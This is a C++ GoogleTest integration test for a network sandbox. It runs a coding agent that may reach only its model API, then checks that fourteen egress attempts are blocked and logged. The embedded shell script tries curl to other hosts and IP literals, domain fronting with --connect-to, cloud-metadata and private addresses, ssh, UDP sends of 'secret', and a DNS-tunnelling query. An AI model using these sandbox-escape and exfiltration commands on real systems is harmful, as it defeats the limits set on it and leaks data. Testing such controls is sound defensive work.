// A real coding agent whose model, out on the little internet, wants everything reached that the
// box may not reach.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <string>

#include "integration/support/agent_cli.hpp"
#include "integration/support/little_internet.hpp"

namespace mino::integration {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

/// Says "<what>=<exit code>" for each way out; 0 only where one is open.
constexpr char kWaysOut[] = R"SCRIPT(
try() { what=$1; shift; "$@" >/dev/null 2>&1; echo "$what=$?"; }
try name curl -sS -m 20 https://other.example/secret
try http curl -sSf -m 20 http://other.example/secret
try address curl -sSk -m 20 https://93.184.215.11/secret
try address6 curl -sSk -m 20 'https://[2606:2800:220:1::10]/secret'
try known curl -sS -m 20 --resolve api.example:443:93.184.215.11 https://api.example/secret
try fronted curl -sSk -m 20 --connect-to other.example:443:api.example:443 https://other.example/secret
try port curl -sSf -m 20 http://api.example/secret
try loopback curl -sSf -m 20 http://127.0.0.1/secret
try machine curl -sSf -m 20 http://host.mino.internal/secret
try inward curl -sSf -m 20 http://loopback.example/secret
try private curl -sSf -m 20 http://10.0.0.1/secret
try metadata curl -sSf -m 20 http://169.254.169.254/secret
try ssh ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=20 git@other.example
try datagram python3 -c "
import socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect(('93.184.215.11', 443))
sock.sendall(b'secret')
sock.sendall(b'secret')"
# Both are answered: by the gateway, which asks nobody.
getent hosts secret.other.example >/dev/null
python3 -c "
import socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(b'\0\1\1\0\0\1\0\0\0\0\0\0\6secret\5other\7example\0\0\20\0\1', ('93.184.215.53', 53))"
echo done
)SCRIPT";

TEST_F(LittleInternet, ARealAgentReachesItsModelAndNothingElse) {
  if (const std::string& problem = agent_cli_program().problem; !problem.empty())
    GTEST_SKIP() << problem;
  open_internet("sh ways-out.sh");
  std::ofstream(project_ / "ways-out.sh") << kWaysOut;
  ProgramSpec agent = script(
      {"--network-allow", "api.example:443", "--host-path", agent_cli_program().directory, "-e",
       "ANTHROPIC_API_KEY=sk-" + name(), "-e", "ANTHROPIC_BASE_URL=https://api.example", "-e",
       "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1", "-e", "DISABLE_AUTOUPDATER=1"},
      "exec claude --allowedTools Bash -p 'look around'");
  agent.deadline = seconds(120);
  const ProgramResult result = run(agent);
  EXPECT_EQ(result.code, 0) << result.err;
  EXPECT_THAT(result.out, HasSubstr("model read: ")) << result.err;
  EXPECT_THAT(result.out, HasSubstr("done"));
  EXPECT_EQ(count_of(result.out, "="), 14) << "ways out that were tried: " << result.out;
  EXPECT_EQ(count_of(result.out, "=0"), 0) << "a way out is open: " << result.out;

  const std::string arrived = arrivals();
  EXPECT_THAT(arrived, HasSubstr("\"key\": \"sk-" + name() + "\"")) << "its model was reached";
  EXPECT_EQ(count_of(arrived, "\"connection\""),
            count_of(arrived, R"("kind": "connection", "to": "api:443")"))
      << arrived;
  EXPECT_THAT(arrived, Not(HasSubstr("\"datagram\"")));
  EXPECT_THAT(arrived, Not(HasSubstr("secret")));
  for (const char* host : {"other.example", "93.184.215.11", "10.0.0.1", "169.254.169.254"})
    EXPECT_NE(audit_line("egress.denied", host), "") << host;
}

}  // namespace
}  // namespace mino::integration
